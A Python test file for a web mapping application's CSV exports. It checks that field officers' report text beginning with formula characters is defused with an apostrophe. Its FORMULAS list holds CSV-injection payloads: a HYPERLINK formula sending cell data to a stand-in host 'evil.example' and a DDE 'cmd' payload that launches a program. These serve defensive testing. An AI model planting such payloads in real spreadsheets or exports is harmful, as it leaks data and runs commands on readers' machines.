"""CSV injection: report text that a spreadsheet would run as a formula (field officers' notes are
opened by Bawaslu in Excel or LibreOffice) comes out of the CSV exports as text."""
from __future__ import annotations

import csv
import io

import geopandas as gpd
import shapely

from geo.exports import csv_frame, defuse_formula
from webmap import create_app
from zonasi.testing.reports import report

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def test_formulas_get_an_apostrophe_numbers_do_not():
    for text in FORMULAS:
        assert defuse_formula(text) == "'" + text
    for text in ("-6.33", "+108.32", "plain", "a=b", "", None, 5, -1.5):
        assert defuse_formula(text) == text
    frame = gpd.GeoDataFrame({"note": ["=1+1", "ok"], "value": [-1.5, 2.0]},
                             geometry=[shapely.Point(108.3, -6.3), shapely.Point(108.4, -6.4)], crs=4326)
    table = csv_frame(frame)
    assert list(table["note"]) == ["'=1+1", "ok"] and list(table["value"]) == [-1.5, 2.0]
    assert list(table["lon"]) == [108.3, 108.4] and list(table["lat"]) == [-6.3, -6.4]


def test_violations_csv_defuses_formulas_in_report_text(tmp_path, engine):
    from geo.config import Settings

    app = create_app(Settings(instance_dir=tmp_path / "instance"), engine=engine)
    store = app.extensions["zonasi"].store
    token = store.tokens.create("bawaslu", "csv")
    for text in FORMULAS:
        store.submit(report(participant=text.strip()[:200] or "x", note=text))
    body = app.test_client().get("/api/violations.csv", headers={"Authorization": f"Bearer {token}"})
    assert body.status_code == 200
    rows = list(csv.DictReader(io.StringIO(body.get_data(as_text=True))))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for name in ("note", "participant"):
            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[name])
        assert float(row["lat"]) < 0   # coordinates stay numbers
    assert {row["note"] for row in rows} == {"'" + t.strip() for t in FORMULAS}  # the store strips text
    store.dispose()
